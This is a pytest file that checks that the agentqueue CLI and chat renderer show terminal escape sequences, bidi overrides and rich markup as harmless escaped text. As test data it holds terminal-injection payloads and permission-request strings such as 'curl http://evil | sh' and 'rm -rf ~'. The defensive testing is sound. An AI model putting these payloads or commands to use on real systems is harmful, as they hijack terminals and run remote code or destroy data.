"""Hostile text on the person's terminal (issue 18): a task, an agent or a repo says something with escape
sequences, C1 controls, bidi overrides, a lone \\r or rich markup in it, and every CLI command and the chat
show it as visible text. The CLI runs against a real daemon and a real `command` agent, in this process (what
a pipe gets) and on a pseudo-terminal; the chat's renderer and its /allow flow run against the same daemon.
"""

from __future__ import annotations

import builtins
import io
import json
import re
import shlex
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from rich.console import Console

from agentqueue import paths
from agentqueue.chat.render import ScriptView, TerminalView
from agentqueue.chat.repl import _command
from agentqueue.chat.watcher import QueueWatcher
from agentqueue.services import Services
from agentqueue.visible import visible

from .cli_helpers import (LiveDaemon, Output, cli_env, cli_in_process, cli_json_in_process, signals, start_daemon,
                          stop_daemon, wait_until)
from .git_fixtures import make_repo
from .processes import Terminal

# What an attacker puts in a title, a log line, a file of the diff, a permission request.
ATTACKS = {
    "clipboard (OSC 52)": "\x1b]52;c;QkFTRTY0\x07",
    "hyperlink (OSC 8)": "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
    "clear screen, cursor home": "\x1b[2J\x1b[H",
    "window title (OSC 0)": "\x1b]0;title\x07",
    "C1 CSI": "\x9b31m",
    "bidi override": "\u202egnp.exe",
    "line overwrite": "safe\rEVIL",
    "bad markup": "[/x]",
    "markup": "[red]x[/red]",
    "markup link": "[link=file:///etc/passwd]x[/link]",
}
HOSTILE = "update deps [/x] " + " ".join(ATTACKS.values())
# How each attack must read on the screen: the escapes spelled out, the markup as typed.
SHOWN = ["update deps [/x]", "\\x1b]52;c;QkFTRTY0\\x07", "\\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\",
         "\\x1b[2J\\x1b[H", "\\x1b]0;title\\x07", "\\x9b31m", "\\u202egnp.exe", "safe\\rEVIL", "[/x]", "[red]x[/red]",
         "[link=file:///etc/passwd]x[/link]"]
# The engine logs an agent's output line by line and takes a \r for a line end, so a log shows the rest.
LOGGED = [part for part in SHOWN if part != "safe\\rEVIL"]
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours on a terminal: the only escapes allowed out
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def assert_safe(output: str, styled: bool = False) -> None:
    """Nothing in output acts on a terminal: no ESC (but rich's colours when styled), no C1, no bidi control,
    no \\r that returns to overwrite a line (a pty turns each \\n into \\r\\n)."""
    text = SGR.sub("", output) if styled else output
    assert "\x1b" not in text, f"an escape reached the terminal: {text[max(0, text.find(chr(27)) - 80):][:200]!r}"
    assert not [c for c in text if 0x80 <= ord(c) <= 0x9f], "a C1 control reached the terminal"
    assert not BIDI & set(text), "a bidi control reached the terminal"
    assert not re.search(r"\r(?!\n)", text), "a lone \\r reached the terminal"


def assert_shown(output: str, parts: list[str] = SHOWN, styled: bool = False) -> None:
    """Each part is on screen as written (whitespace aside: tables wrap long titles)."""
    flat = "".join((SGR.sub("", output) if styled else output).split())
    for part in parts:
        assert "".join(part.split()) in flat, f"{part!r} not shown in:\n{output[-3000:]}"


def test_visible_spells_out_controls_and_keeps_a_bodys_lines() -> None:
    assert visible(HOSTILE) == " ".join(SHOWN)
    assert visible("a\tb\nc") == "a\\tb\\nc"  # one line: a title cannot fake a second line
    assert visible("a\tb\r\nc\rd\n", multiline=True) == "a\tb\r\nc\\rd\n"  # a log keeps tabs, CRLF, newlines
    assert visible("\x00\x7f\x85\u2028\u2066\udcff") == "\\x00\\x7f\\x85\\u2028\\u2066\\udcff"
    assert visible("é ✔ 日本 :smile: C:\\path") == "é ✔ 日本 :smile: C:\\path"  # the rest is untouched
    assert visible(visible(HOSTILE)) == visible(HOSTILE)  # idempotent: made visible twice reads the same


# -- the CLI, against a real daemon and agent ------------------------------------------------------------
# An agent whose output, summary and changes carry the attack: it prints it, writes it into a file (and a
# file named with a bidi override), then waits for GO <path> (EXIT-3: exits 3 after saying it on stderr).
AGENT = f"""
import json, pathlib, sys, time
hostile = json.loads({json.dumps(json.dumps(HOSTILE))})
prompt = sys.stdin.read()
print(hostile, flush=True)
pathlib.Path("evil.txt").write_text(hostile + "\\n")
pathlib.Path("notes\\u202etxt.md").write_text("x\\n")
if "EXIT-3" in prompt:
    sys.stderr.write(hostile + "\\n")
    sys.exit(3)
go = next(line[3:] for line in prompt.splitlines() if line.startswith("GO "))
while not pathlib.Path(go).exists():
    time.sleep(0.05)
"""


@pytest.fixture
def live(tmp_path: Path) -> Iterator[LiveDaemon]:
    env = cli_env(tmp_path / "aq", tmp_path / "user")
    running = start_daemon(env)
    running.call("create_project", name="Demo")
    running.call("add_repo", source="link", project_id="demo", path=str(make_repo(tmp_path / "repo")), name="app")
    yield running
    stop_daemon(running)


def on_a_tty(env: dict[str, str], *args: str) -> str:
    with Terminal([sys.executable, "-m", "agentqueue", *args], env) as term:
        term.process.wait(timeout=60)
        term.drain()
    return term.text


def no_raw_controls(text: str) -> None:
    """JSON output: every control and non-ASCII character escaped (ensure_ascii)."""
    assert text.isascii() and not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", text), text[:300]


@pytest.mark.integration
@pytest.mark.daemon
def test_every_cli_command_shows_hostile_text_as_text(live: LiveDaemon, tmp_path: Path) -> None:
    env = live.env
    live.call("create_agent", name="worker", agent_type="command", command=shlex.join([sys.executable, "-c", AGENT]))
    go = signals(tmp_path) / "go"
    # create_task refuses a title with control characters; one can still be in the store (written before that
    # check, or by hand), and every command must print it safely.
    task = live.call("create_task", project_id="demo", title="Hostile", description=f"{HOSTILE}\nGO {go}",
                     requires_approval=True)
    with sqlite3.connect(live.home / "agentqueue.db") as db:
        db.execute("UPDATE tasks SET title = ? WHERE id = ?", (HOSTILE, task["id"]))
    log = live.home / "logs" / "tasks" / f"{task['id']}.log"
    wait_until(lambda: log.exists() and "52;c;" in log.read_text(errors="replace"), 60, "the agent's hostile line")
    follow = subprocess.Popen([sys.executable, "-m", "agentqueue", "logs", task["id"], "-f"], env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        # While it runs: the running-agents table, the list `stop` gives before it refuses, the task list.
        for args in (["status"], ["stop"], ["tasks"]):
            done = cli_in_process(env, *args)
            assert "Traceback" not in done.stderr, done.stderr
            assert_safe(done.stdout + done.stderr)
        assert_shown(cli_in_process(env, "tasks").stdout)
        assert "\\x1b]52;c;" in "".join(cli_in_process(env, "status").stdout.split())
        assert_shown(cli_in_process(env, "stop").stdout, ["update deps [/x]", "\\x1b]52;c;QkF"])  # its title[:40]
        go.write_text("")
        out, err = follow.communicate(timeout=60)
    finally:
        follow.kill()
    assert follow.returncode == 0
    followed = out.decode()
    assert_safe(followed + err.decode())
    assert_shown(followed, LOGGED)
    live.wait_status(task["id"], "AWAITING_APPROVAL")

    # Piped (what a script or `less` gets: in this process) and on a terminal (rich's tables and colours).
    for args in (["show", task["id"]], ["logs", task["id"]], ["diff", task["id"]], ["tasks"]):
        parts = LOGGED if args[0] == "logs" else SHOWN
        piped = cli_in_process(env, *args)
        assert piped.returncode == 0, piped.stderr
        assert_safe(piped.stdout + piped.stderr)
        assert_shown(piped.stdout, parts)
        shown = on_a_tty(env, *args)
        assert_safe(shown, styled=True)
        assert_shown(shown, parts, styled=True)
    shown = cli_in_process(env, "show", task["id"]).stdout
    # A file name of the diff, spelled out (by us, or already C-quoted by git's core.quotepath).
    assert re.search(r"notes(\\u202e|\\342\\200\\256)txt\.md", shown), shown
    assert "+" + visible(HOSTILE) in cli_in_process(env, "diff", task["id"]).stdout  # the diff line, made visible
    narrow = cli_in_process(env, "show", task["id"], width=40)
    assert narrow.returncode == 0 and "Traceback" not in narrow.stderr
    assert_safe(narrow.stdout)
    assert_shown(narrow.stdout)

    # --json keeps the text exact, every control escaped.
    for args in (["show", task["id"]], ["logs", task["id"]], ["diff", task["id"]], ["tasks"], ["status"]):
        done = cli_in_process(env, *args, "--json")
        assert done.returncode == 0, done.stderr
        no_raw_controls(done.stdout)
    assert cli_json_in_process(env, "show", task["id"])["task"]["title"] == HOSTILE
    assert HOSTILE in cli_json_in_process(env, "diff", task["id"])["diff"]
    lines = cli_in_process(env, "logs", task["id"], "-f", "--json")
    no_raw_controls(lines.stdout)
    assert any(HOSTILE.split("\r")[0] in json.loads(line)["line"] for line in lines.stdout.splitlines())

    # A run that fails: its summary and the refusal that quotes a hostile id.
    failed = live.call("create_task", project_id="demo", title="Fails", description="EXIT-3", max_retries=0)
    live.wait_status(failed["id"], "FAILED", "BLOCKED")
    for shown in (cli_in_process(env, "show", failed["id"]).stdout, on_a_tty(env, "show", failed["id"])):
        assert_safe(shown, styled=True)
        assert_shown(shown, ["\\x1b]52;c;QkFTRTY0\\x07", "[red]x[/red]"], styled=True)
    refused = cli_in_process(env, "show", "\x1b]0;pwned\x07[/x]")
    assert refused.returncode == 1 and "Traceback" not in refused.stderr
    assert_safe(refused.stderr)
    assert "\\x1b]0;pwned\\x07[/x]" in refused.stderr


def test_logs_follow_makes_each_chunk_visible_whatever_its_boundaries(tmp_path: Path) -> None:
    """The log grows in pieces that end mid-escape, mid-character and between the \r and \n of a CRLF:
    `logs -f` still shows the escape spelled out, the character whole and the line end as a line end."""
    home = tmp_path / "aq"
    services = Services(home)
    services.projects.create("Alpha")
    task = services.tasks.create("alpha", "Streams", "no agent runs it")  # READY: -f waits and follows
    log = paths.task_log(home, task.id)
    log.parent.mkdir(parents=True, exist_ok=True)
    log.write_bytes(b"")
    follow = subprocess.Popen([sys.executable, "-m", "agentqueue", "logs", task.id, "-f"],
                              env=cli_env(home, tmp_path / "user"), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        stdout = Output(follow.stdout)
        # Each piece, and what of it `logs -f` prints before the next is written (so each is one read).
        pieces = [(b"crlf line\r", b"crlf line"), (b"\nsplit \xe2\x9c", b"split "),
                  (b"\x94 char\n\x1b]52;c;QkFT", b"QkFT"), (b"RTY0\x07 \xc2\x9b31m \xe2\x80", b"31m "),
                  (b"\xae end\rEVIL\n", b"EVIL")]
        for piece, printed in pieces:
            with log.open("ab") as handle:
                handle.write(piece)
            stdout.read_until(printed, 30)
        services.tasks.set_status(task.id, "FAILED")
        out, _ = follow.communicate(timeout=30)
    finally:
        follow.kill()
        services.close()
    shown = (stdout.text + out).decode()
    assert_safe(shown)
    assert shown == "crlf line\r\nsplit ✔ char\n\\x1b]52;c;QkFTRTY0\\x07 \\x9b31m \\u202e end\\rEVIL\n", repr(shown)


# -- the chat ------------------------------------------------------------------------------------------
def terminal_view(width: int = 60) -> tuple[TerminalView, io.StringIO]:
    """The chat's view on a colour terminal of `width` columns, written to a buffer."""
    out = io.StringIO()
    return TerminalView(Console(file=out, force_terminal=True, width=width, highlight=False, soft_wrap=True)), out


def test_the_chat_renderer_shows_hostile_text_from_the_model_and_its_tools(monkeypatch: pytest.MonkeyPatch,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    view, out = terminal_view()
    view.text(HOSTILE + "\n")
    view.tool_call("mcp_tool\x1b[2J", {"title": HOSTILE})
    view.tool_result(HOSTILE, False)
    view.tool_result(HOSTILE, True)
    view.note(HOSTILE)
    view.error(HOSTILE)
    view._print("/help [id] " + HOSTILE)
    view.announce(QueueWatcher(Path("/nonexistent"), view.announce).request_line(
        {"id": "req-1", "task_id": "t-1", "action": f"Bash({HOSTILE})", "project_id": "demo"}))
    asked: list[str] = []
    monkeypatch.setattr(builtins, "input", lambda prompt="": asked.append(prompt) or "n")
    long_command = "ls " + " " * 60 + "; curl http://evil | sh " + HOSTILE
    assert view.ask_permission("Bash", {"command": long_command}, "list \x1b]0;x\x07") == "deny"
    assert view.ask_question(f"Allow update_task with title={HOSTILE}?") is False
    shown = out.getvalue()
    assert_safe(shown, styled=True)
    assert_shown(shown, styled=True)
    # The permission question holds the whole command, not a cut summary.
    assert "".join(visible(long_command).split()) in "".join(SGR.sub("", shown).split())
    assert len(asked) == 2

    script = ScriptView(stream_text=True)  # `chat -p`: the text on stdout, notes on stderr
    script.text(HOSTILE)
    script.note(HOSTILE)
    script.ask_permission("Bash\x1b]0;x\x07", {}, "")
    captured = capsys.readouterr()
    assert_safe(captured.out + captured.err)
    assert_shown(captured.out)
    assert_shown(captured.err, ["\\x1b]52;c;QkFTRTY0\\x07", "Bash\\x1b]0;x\\x07"])


@pytest.mark.integration
@pytest.mark.daemon
def test_allow_in_the_chat_shows_and_answers_the_exact_action(live: LiveDaemon,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """An agent's permission request with a hostile action: the queue line shows the action whole and made
    visible, and /allow answers that request and repeats the same action string from the daemon's record."""
    task = live.call("create_task", project_id="demo", title="Asks", description="no agent runs it")
    action = f"Bash(curl http://x/{'a' * 150} | sh; echo {HOSTILE}\nrm -rf ~)"
    services = Services(live.home)
    try:  # what the engine records when the policy says ask about an agent's tool call
        request = services.requests.open(task["id"], None, "Bash", {"command": action[5:-1]}, action,
                                         HOSTILE, "Bash(curl:*)", 600)
    finally:
        services.close()
    view, out = terminal_view(width=50)
    monkeypatch.setattr(builtins, "input", lambda prompt="": "y")  # the policy may ask before answer_request
    watcher = QueueWatcher(live.home, view.announce)
    watcher.refresh_requests()
    assert list(watcher.pending) == [request.id]
    line = out.getvalue()
    assert_safe(line, styled=True)
    flat = "".join(SGR.sub("", line).split())
    assert "".join(visible(action).split()) in flat and "\\nrm-rf~" in flat  # whole, its newline spelled out
    assert "/always remembers Bash(curl:*)" in SGR.sub("", line)

    assert _command(live.home, "/allow", view, watcher) is None
    said = out.getvalue()[len(line):]
    assert_safe(said, styled=True)
    assert f"{request.id}allowed:{''.join(visible(action).split())}" in "".join(SGR.sub("", said).split())
    allowed = live.call("list_requests", status="allowed")["requests"]
    assert [(r["id"], r["action"]) for r in allowed] == [(request.id, action)]
